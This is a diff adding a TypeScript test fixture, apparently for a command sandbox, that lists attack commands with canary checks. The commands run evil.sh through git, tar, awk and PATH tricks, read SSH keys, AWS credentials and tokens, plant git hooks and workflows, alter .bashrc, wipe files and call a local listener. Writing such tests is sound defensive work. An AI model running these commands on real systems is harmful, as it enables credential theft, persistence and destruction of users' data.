@@ -1,0 +1,130 @@
+/** Attacks of our own, of the same kinds: each works where nothing stands in its way. */
+import type { Row } from "./scene.ts";
+
+const NOTES = "echo work > notes.md";
+const work = "! grep -q work notes.md 2>/dev/null";
+const row = (name: string, cmd: string, effect: string, setup = ""): Row => ({ name, cmds: [cmd], setup, effect });
+const canary = (name: string, cmd: string, setup = ""): Row => row(name, cmd, "test -e $PWN", setup);
+const shows = (name: string, cmd: string, what: string, setup = ""): Row => row(name, cmd, `out:${what}`, setup);
+/** The listener's count is the sign. */
+const request = (name: string, cmd: string): Row => row(name, cmd, "false");
+
+export const OWN_ROWS: readonly Row[] = [
+  canary("awk-system", `awk 'BEGIN { system("./evil.sh") }'`),
+  canary("find-exec", "find . -maxdepth 0 -exec ./evil.sh ';'"),
+  canary("git-external-diff", "GIT_EXTERNAL_DIFF=./evil.sh git diff", "echo b >> README.md"),
+  canary("git-fsmonitor", "git -c core.fsmonitor=./evil.sh status"),
+  canary("git-fsmonitor-set", "git status", "git config core.fsmonitor ./evil.sh"),
+  canary(
+    "git-textconv",
+    "git diff",
+    "echo '*.md diff=x' > .gitattributes; git config diff.x.textconv ./evil.sh; echo b >> README.md",
+  ),
+  canary("git-alias", "git st", "git config alias.st '!./evil.sh'"),
+  canary("sed-e", "sed -n '1e ./evil.sh' README.md"),
+  canary("tar-checkpoint", "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=./evil.sh README.md"),
+  canary("xargs-a", "xargs -a README.md ./evil.sh"),
+  canary("env-split", "env -S './evil.sh'"),
+  canary("perl", `perl -e 'system "./evil.sh"'`),
+  canary("node-spawn", `node -e 'require("child_process").execFileSync("./evil.sh")'`),
+  canary("npm-script", "npm test", `printf '{"scripts":{"test":"./evil.sh"}}' > package.json`),
+  canary("make", "make", `printf 'all:\\n\\t./evil.sh\\n' > Makefile`),
+  canary("bash-env", "BASH_ENV=./evil.sh bash -c ls"),
+  canary("path", "PATH=./bin:$PATH ls", "mkdir bin; cp evil.sh bin/ls"),
+  canary("function-named-ls", "ls() { ./evil.sh; }; ls"),
+  canary("detached", "setsid ./evil.sh >/dev/null 2>&1 & sleep 1"),
+  canary("python-subprocess", `python3 -c 'import subprocess; subprocess.run("./evil.sh")'`),
+  shows("node-key", `node -p 'require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8")'`, "CANARYKEY"),
+  shows("node-token", "node -p process.env.GITHUB_TOKEN", "CANARYTOKEN"),
+  shows("environ-of-others", "cat /proc/*/environ | tr '\\0' '\\n'", "CANARYTOKEN"),
+  shows(
+    "environ-of-one",
+    `python3 -c 'print(open("/proc/1/environ").read() + open("/proc/self/environ").read())'`,
+    "CANARYTOKEN",
+  ),
+  shows("link-then-cat", "ln -s ~/.ssh k && cat k/id_rsa", "CANARYKEY"),
+  shows("tar-home", "tar -cf - -C ~ . | tr -d '\\0'", "CANARYKEY"),
+  shows("find-home", "find ~ -name 'id_*' -exec cat {} +", "CANARYKEY"),
+  shows("base64", "base64 ~/.ssh/id_rsa | base64 -d", "CANARYKEY"),
+  shows("aws", "awk 1 ~/.aws/credentials", "CANARYAWS"),
+  shows("diff-two-homes", "diff -r /dev/null/.. ~ ; diff /dev/null ~/.aws/credentials", "CANARYAWS"),
+  shows("env-file", `node -p 'require("fs").readFileSync(".env", "utf8")'`, "CANARYENV", "echo TOKEN=CANARYENV > .env"),
+  shows("env-file-copied", "cp .env e && cat e", "CANARYENV", "echo TOKEN=CANARYENV > .env"),
+  shows("home-by-another-name", "cat @P@/../home/.ssh/*", "CANARYKEY"),
+  shows("home-by-proc", "cat /proc/self/root@H@/.ssh/id_rsa", "CANARYKEY"),
+  row(
+    "hook-by-node",
+    `node -e 'require("fs").writeFileSync(".git/hooks/pre-commit", "x", { mode: 0o755 })'`,
+    "test -x .git/hooks/pre-commit",
+  ),
+  row(
+    "hook-by-moving",
+    "mv .git g && cp -r g .git && cp evil.sh .git/hooks/pre-commit",
+    "test -x .git/hooks/pre-commit",
+  ),
+  row(
+    "hook-in-new-repository",
+    "git init -q n && cp evil.sh n/.git/hooks/post-checkout",
+    "test -x n/.git/hooks/post-checkout",
+  ),
+  row(
+    "hook-by-template",
+    "git init -q --template=t n",
+    "test -x n/.git/hooks/pre-commit",
+    "mkdir -p t/hooks; cp evil.sh t/hooks/pre-commit",
+  ),
+  row(
+    "hooks-path",
+    `node -e 'require("fs").appendFileSync(".git/config", "[core]\\nhooksPath = .h\\n")'`,
+    "grep -q hooksPath .git/config",
+  ),
+  row(
+    "workflow",
+    'python3 -c \'import os; os.makedirs(".github/workflows"); open(".github/workflows/x.yml", "w")\'',
+    "test -e .github/workflows/x.yml",
+  ),
+  row(
+    "workflow-by-renaming",
+    "sh -c 'mv .github old; mkdir -p .github/workflows; echo x > .github/workflows/x.yml'",
+    "test -e .github/workflows/x.yml",
+    "mkdir -p .github/workflows; echo a > .github/workflows/a.yml",
+  ),
+  row("bare-repository", "git init -q --bare b && cp evil.sh b/hooks/post-update", "test -x b/hooks/post-update"),
+  row("rm-by-node", `node -e 'require("fs").rmSync("notes.md")'`, work, NOTES),
+  row("clean", "git clean -fdx", work, NOTES),
+  row("rmtree", `python3 -c 'import shutil; shutil.rmtree(".", ignore_errors=True)'`, work, NOTES),
+  row("unlink", "perl -e 'unlink glob \"*.md\"'", work, NOTES),
+  row("truncate", "truncate -s 0 notes.md", work, NOTES),
+  row("clobber", ": > notes.md", work, NOTES),
+  row("sed-delete", "sed -i d notes.md", work, NOTES),
+  row("restore-over", "git checkout -- README.md", "! grep -q work README.md", "echo work > README.md"),
+  row("reset-hard", "git reset --hard", "! grep -q work README.md", "echo work > README.md"),
+  row("find-delete", "find . -name '*.md' -delete", work, NOTES),
+  row(
+    "ignored-file",
+    `node -e 'require("fs").rmSync("data.db")'`,
+    "! test -e data.db",
+    "echo data.db > .gitignore; echo rows > data.db",
+  ),
+  row("bashrc", `node -e 'require("fs").writeFileSync(process.env.HOME + "/.bashrc", "x")'`, "test -e $H/.bashrc"),
+  row("bashrc-by-link", "echo evil >> rc", "grep -q evil $H/.bashrc", "touch $H/.bashrc; ln -s $H/.bashrc rc"),
+  row(
+    "bashrc-by-hard-link",
+    "sh -c 'echo evil >> rc'",
+    "grep -q evil $H/.bashrc",
+    "touch $H/.bashrc; ln $H/.bashrc rc",
+  ),
+  row("beside", "sh -c 'mkdir -p ../beside && echo x > ../beside/x'", "test -e ../beside/x"),
+  row(
+    "own-settings",
+    `node -e 'const f = require("fs"), d = process.env.HOME + "/.config/sallyport"; f.mkdirSync(d, { recursive: true }); f.writeFileSync(d + "/settings.json", "{}")'`,
+    "test -e $H/.config/sallyport/settings.json",
+  ),
+  request("curl", "curl -s -m 5 'http://127.0.0.1:@PORT@/?x=1'"),
+  request("curl-with-file", "curl -s -m 5 -d @README.md http://127.0.0.1:@PORT@/"),
+  request("dev-tcp", "exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo hi >&3"),
+  request("node-fetch", `node -e 'fetch("http://127.0.0.1:@PORT@/").catch(() => {})'`),
+  request("python", `python3 -c 'import socket; socket.create_connection(("127.0.0.1", @PORT@), 5)'`),
+  request("git-remote", "git ls-remote http://127.0.0.1:@PORT@/x"),
+  request("npm-test-fetch", 'node -e \'require("net").connect(@PORT@, "localhost")\''),
+];
